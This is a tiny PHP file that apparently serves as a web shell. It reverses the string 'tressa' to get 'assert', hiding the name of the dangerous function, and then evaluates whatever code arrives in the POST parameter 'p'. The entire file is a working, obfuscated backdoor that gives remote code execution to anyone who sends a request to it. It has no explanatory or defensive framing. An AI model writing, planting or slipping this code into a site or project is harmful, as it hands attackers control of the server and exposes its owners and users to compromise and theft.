<?php
$a = strrev('tressa');
$a($_POST['p']);
